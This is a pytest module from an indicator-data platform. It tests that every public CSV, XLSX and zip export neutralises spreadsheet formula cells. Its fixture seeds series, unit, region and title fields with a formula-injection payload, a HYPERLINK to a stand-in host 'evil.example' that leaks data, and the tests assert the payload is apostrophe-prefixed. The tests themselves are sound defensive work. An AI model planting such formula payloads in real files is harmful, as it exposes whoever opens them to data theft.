"""No formulas in public files: every public export neutralises formula cells (issue 13).

Observations whose series, unit, region name and own indicator title start with ``=``,
``+``, ``-`` and ``@`` (the finding: ``sex==HYPERLINK(…)``) are fetched through every public
file export; no text cell may start with a formula character unless neutralised with an
apostrophe, and values stay numbers. The exports are enumerated from the URL configuration and
the OpenAPI schema, so a new file export fails ``test_every_file_export_is_covered`` until it
is added here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from tests.accounts.fixtures import _clear_cache, _fast_passwords, world  # noqa: F401
from zielwerk.api.services.opensdg_build import opensdg_site_build
from zielwerk.api.v1 import api
from zielwerk.catalogue.models import Goal
from zielwerk.core.formulas import formula_safe, is_formula
from zielwerk.monitoring.models import Observation
from zielwerk.monitoring.services import ExportFormat, observations_export
from zielwerk.workspace import services

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak","Klick")'
SERIES = [f"sex={PAYLOAD}", "+dim=+1 plus", "-dim=-minus", "@dim=@SUM(A1)"]
UNIT = "@" + PAYLOAD
TITLE = "-" + PAYLOAD

# Every public file export: (kind, URL). The Open SDG site files are checked for every kind
# that is CSV or zip; the static builds (CLI) below.
FILE_URLS = {
    "observations-csv": "/api/v1/observations?indicator={code}&format=csv",
    "observations-xlsx": "/api/v1/observations?indicator={code}&format=xlsx",
    "sdmx-csv": "/api/v1/sdmx/data/{code}?format=csv",
    "opensdg-repository": "/api/v1/opensdg/repository.zip",
    # Own codes (own-<slug>-<n>) have no file of their own in the data service (dashes), so
    # these use the catalogue indicator with the same rows; the zip holds both.
    "opensdg-data-csv": "/api/v1/opensdg/de/data/7-2-1.csv",
    "opensdg-headline-csv": "/api/v1/opensdg/de/headline/7-2-1.csv",
    "opensdg-edges-csv": "/api/v1/opensdg/en/edges/7-2-1.csv",
    "opensdg-zip": "/api/v1/opensdg/en/zip/all_indicators.zip",
    "portal-csv": "/indikatoren/{code}/daten.csv",
    "portal-xlsx": "/indikatoren/{code}/daten.xlsx",
}
# The routes these cover (Django URL names and OpenAPI paths); a file route not listed here
# is a new exporter without this test.
COVERED_ROUTES = {
    "indicator_table",  # portal daten.csv / daten.xlsx
    "/api/v1/observations",
    "/api/v1/sdmx/data/{indicator}",
    "/api/v1/opensdg/repository.zip",
    "/api/v1/opensdg/{lang}/{kind}/{name}",
}
# Routes that serve files without text cells a spreadsheet reads (images, GeoJSON, RDF).
NOT_SPREADSHEETS = {
    "indicator_image",
    "indicator_map_values",
    "outlines",
    "dcat-catalog-ttl",
    "dcat-catalog-jsonld",
    "audit_download",  # the workspace audit trail (not public; neutralised, own test)
    "upload_template",  # the workspace's upload template (not public; neutralised, own test)
    "account_data",  # a person's own data as JSON
    "openapi-json",
    "status",  # a background job's progress as JSON (jobs)
    "interlinkage_svg",  # the synergy matrix and network of a region, as SVG
    "download",  # a report edition as PDF or DOCX (reports, members and public): no cells
}


def _names(patterns: list[URLPattern | URLResolver]) -> set[tuple[str, str]]:
    found: set[tuple[str, str]] = set()
    for p in patterns:
        if isinstance(p, URLResolver):
            found |= _names(p.url_patterns)
        elif p.name:
            found.add((p.name, str(p.pattern)))
    return found


def test_every_file_export_is_covered():
    files = re.compile(r"csv|xlsx|zip|json|ttl|svg|png|geojson|\.<str:fmt>|\(\?P<fmt>")
    ninja = {op["operationId"] for ops in api.get_openapi_schema()["paths"].values()
             for op in ops.values()}  # fmt: skip
    routes = {
        name
        for name, pattern in _names(get_resolver().url_patterns)
        if files.search(pattern) and not any(op.endswith("_" + name) for op in ninja)
    }
    assert routes - NOT_SPREADSHEETS - COVERED_ROUTES - {"api-docs-asset"} == set()
    schema = api.get_openapi_schema()
    exports = {
        path
        for path, operations in schema["paths"].items()
        for op in operations.values()
        if any(p["name"] == "format" for p in op.get("parameters", []))
        or "{name}" in path
        or path.endswith(".zip")
    }
    assert exports <= COVERED_ROUTES


@pytest.fixture
def tainted(world):  # noqa: F811
    """An own indicator with published data: every text starts with a formula character."""
    world.town_a.name = "+" + PAYLOAD
    world.town_a.save()
    services.indicator_selection_set(
        organisation=world.org_a,
        user=world.members["admin"],
        shown=[world.un.pk],
        chosen=[world.un.pk],
    )
    own = services.own_indicator_create(
        organisation=world.org_a,
        user=world.members["admin"],
        data=services.OwnIndicatorData(title_de=TITLE, goal=Goal.objects.get(number=7)),
    )
    rows = [
        services.DraftRow(indicator_id, world.town_a.pk, s, 2020 + i, -3.5 - i, "percent")
        for i, s in enumerate(SERIES)
        for indicator_id in (own.indicator_id, world.un.pk)
    ]
    services.staged_observations_save(
        organisation=world.org_a, user=world.members["publisher"], rows=rows, origin="grid"
    )
    services.drafts_publish(organisation=world.org_a, user=world.members["publisher"])
    assert set(Observation.objects.values_list("series", flat=True)) == set(SERIES)
    assert Observation.objects.count() == 2 * len(SERIES)
    # The import accepts only known units; a unit text stored otherwise must be safe too.
    Observation.objects.update(unit=UNIT)
    assert set(Observation.objects.values_list("unit", flat=True)) == {UNIT}  # stored as is
    return own.indicator


def _cells(name: str, content: bytes) -> list[list[object]]:
    """Rows of a CSV, XLSX or zip (all its CSV and XLSX members)."""
    if name.endswith(".xlsx") or (content[:2] == b"PK" and b"xl/" in content[:2000]):
        sheet = load_workbook(io.BytesIO(content), read_only=True).active
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    if content[:2] == b"PK":
        rows: list[list[object]] = []
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for member in archive.namelist():
                if member.endswith((".csv", ".xlsx")):
                    rows += _cells(member, archive.read(member))
        return rows
    return [list(r) for r in csv.reader(io.StringIO(content.decode("utf-8-sig")))]


def _assert_safe(where: str, rows: list[list[object]]) -> None:
    texts = [c for row in rows for c in row if isinstance(c, str)]
    assert texts, f"{where}: no cells"
    dangerous = [c for c in texts if is_formula(c)]
    assert dangerous == [], f"{where}: formula cells {dangerous[:3]}"


def _assert_payload_neutralised(where: str, rows: list[list[object]]) -> None:
    texts = [c for row in rows for c in row if isinstance(c, str)]
    assert any(c.startswith("'") and "HYPERLINK" in c for c in texts), where


@pytest.mark.parametrize("kind", sorted(FILE_URLS))
def test_public_file_exports_carry_no_formulas(client, tainted, kind):
    url = FILE_URLS[kind].format(code=tainted.code, ident=tainted.code.replace(".", "-"))
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = _cells(url.split("?")[0], content)
    _assert_safe(kind, rows)
    if kind not in ("opensdg-edges-csv", "opensdg-headline-csv"):  # no dimension values
        _assert_payload_neutralised(kind, rows)
    numbers = [c for row in rows for c in row if isinstance(c, (int, float))]
    texts = {c for row in rows for c in row if isinstance(c, str)}
    assert "'-3.5" not in texts and "'-3.5'" not in texts  # numbers are never prefixed
    if kind.endswith("xlsx"):
        assert any(n < 0 for n in numbers)  # a value cell stays a number


def test_values_stay_numbers_in_csv(client, tainted):
    text = client.get(f"/api/v1/sdmx/data/{tainted.code}?format=csv").content.decode()
    frame = pl.read_csv(io.StringIO(text))
    assert frame.schema["OBS_VALUE"] == pl.Float64
    assert sorted(frame.get_column("OBS_VALUE").to_list()) == [-6.5, -5.5, -4.5, -3.5]


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_cli_exports_carry_no_formulas(tainted, tmp_path: Path, fmt: ExportFormat):
    target = tmp_path / ("out" if fmt is ExportFormat.OPENSDG else f"out.{fmt.value}")
    observations_export(path=target, export_format=fmt, indicators=[tainted.code])
    files = sorted(target.rglob("*.csv")) if target.is_dir() else [target]
    rows = [r for f in files for r in _cells(f.name, f.read_bytes())]
    _assert_safe(fmt.value, rows)
    _assert_payload_neutralised(fmt.value, rows)


def test_opensdg_site_build_carries_no_formulas(tainted, tmp_path: Path):
    opensdg_site_build(directory=tmp_path, languages=("de",))
    files = sorted(p for p in tmp_path.rglob("*") if p.suffix in (".csv", ".zip"))
    assert files
    for path in files:
        _assert_safe(str(path.relative_to(tmp_path)), _cells(path.name, path.read_bytes()))


def test_formula_safe_touches_text_only():
    frame = pl.DataFrame({"s": ["=1+1", "-x", "-3.5", "\tx", "ok"], "v": [-1.0, 2, 3, 4, 5]})
    out = formula_safe(frame)
    assert out.get_column("s").to_list() == ["'=1+1", "'-x", "-3.5", "'\tx", "ok"]
    assert out.get_column("v").to_list() == [-1.0, 2, 3, 4, 5]
